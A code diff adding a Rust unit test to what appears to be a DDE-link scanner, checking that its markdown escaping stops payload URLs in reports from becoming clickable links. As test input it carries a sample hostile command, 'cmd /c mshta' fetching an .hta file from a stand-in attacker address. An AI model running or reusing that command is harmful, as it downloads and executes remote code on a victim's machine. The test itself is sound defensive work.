@@ -947,3 +947,15 @@ fn review_short_document_names_join_unrelated_memory_strings() {
         .find(|e| e.data_type == "ddesweep:memory:string");
     assert_eq!(memory.and_then(|e| e.incident.as_deref()), None);
 }
+
+/// output/report/escape.rs:32-47 (md_text) as used for reasons, titles and narrative lines
+/// (markdown.rs:142-147, report.md "What happened"): a bare payload URL stays a bare URL, which
+/// GitHub/GitLab (extended autolinks) render as a clickable link to the attacker's server.
+#[test]
+fn review_markdown_prose_leaves_payload_urls_clickable() {
+    let text = crate::output::report::escape::md_text(
+        "DDE link in x.xlsx runs: cmd /c mshta http://198.51.100.23/pa.hta or www.evil.example/x",
+    );
+    assert!(!text.contains("http://198.51.100.23"), "{text}");
+    assert!(!text.contains("www.evil.example"), "{text}");
+}
